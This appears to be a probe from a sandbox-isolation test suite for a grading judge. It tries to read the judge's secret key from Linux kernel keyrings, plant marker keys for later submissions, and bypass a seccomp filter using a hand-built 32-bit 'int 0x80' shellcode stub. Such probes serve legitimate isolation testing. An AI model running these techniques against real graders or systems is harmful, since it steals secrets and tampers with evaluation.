# The judge's keyrings: find and read a key the judge holds in its session keyring (by
# search, and by the serial numbers, which the attacker is assumed to know), then leave a
# key in every keyring within reach for the next submission graded in that session to find.
import mmap
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_ADD_KEY, SYS_KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
GET_KEYRING_ID, DESCRIBE, SEARCH, READ = 0, 6, 10, 11
SESSION, USER, USER_SESSION = -3, -4, -5
JUDGE_KEYRING, JUDGE_KEY, JUDGE_KEY_DESC = @JUDGE_KEYRING@, @JUDGE_KEY@, b"@JUDGE_KEY_DESC@"


def keyctl(*args):
    return libc.syscall(ctypes.c_long(SYS_KEYCTL), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])


buf = ctypes.create_string_buffer(4096)
if keyctl(GET_KEYRING_ID, SESSION, 0) == JUDGE_KEYRING:
    leak("shares the judge's session keyring")
for name, ring in (("session", SESSION), ("user", USER), ("user-session", USER_SESSION), ("judge's", JUDGE_KEYRING)):
    found = keyctl(SEARCH, ring, b"user", JUDGE_KEY_DESC, 0)
    if found > 0:
        size = keyctl(READ, found, buf, 4096)
        leak(f"found the judge's key in the {name} keyring: {buf.raw[:max(0, size)]!r}")
size = keyctl(READ, JUDGE_KEY, buf, 4096)
if size >= 0:
    leak(f"read the judge's key by its serial: {buf.raw[:size]!r}")
if keyctl(DESCRIBE, JUDGE_KEY, buf, 4096) >= 0:
    leak(f"described the judge's key by its serial: {buf.value[:80]!r}")
if keyctl(READ, JUDGE_KEYRING, buf, 4096) >= 0:
    leak("listed the judge's session keyring")
for name, ring in (("session", SESSION), ("user", USER), ("user-session", USER_SESSION), ("judge's", JUDGE_KEYRING)):
    description = f"{MARKER}-left-in-{name}".encode()
    added = libc.syscall(ctypes.c_long(SYS_ADD_KEY), b"user", description, b"planted", ctypes.c_size_t(7),
                         ctypes.c_long(ring))
    if added > 0 and ring != SESSION:
        leak(f"added a key to the {name} keyring")


def i386_syscall(number, *args):
    """A system call through the 32-bit ABI (`int 0x80`), which a filter that compares only
    x86_64 numbers would let through; bytes arguments are copied below 4 GiB (MAP_32BIT)."""
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,
                     mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    values, data = [], b""
    for arg in args:
        values.append(base + 256 + len(data) if isinstance(arg, bytes) else arg & 0xFFFFFFFF)
        data += arg + b"\0" if isinstance(arg, bytes) else b""
    registers = (b"\xbb", b"\xb9", b"\xba", b"\xbe", b"\xbf")  # mov ebx, ecx, edx, esi, edi
    moves = b"".join(op + struct.pack("<I", value) for op, value in zip(registers, values))
    code = b"\x53\xb8" + struct.pack("<I", number) + moves + b"\xcd\x80\x5b\xc3"  # push rbx ... int 0x80; pop rbx
    page[:len(code)], page[256:256 + len(data)] = code, data
    return ctypes.CFUNCTYPE(ctypes.c_int)(base)()


if os.uname().machine == "x86_64":  # i386 numbers: add_key 286, keyctl 288
    if i386_syscall(288, GET_KEYRING_ID, SESSION, 0) == JUDGE_KEYRING:
        leak("shares the judge's session keyring (seen through the i386 ABI)")
    if i386_syscall(286, b"user", f"{MARKER}-left-in-user-by-i386".encode(), b"planted", 7, USER) > 0:
        leak("added a key to the user keyring through the i386 ABI")
report_leaks()
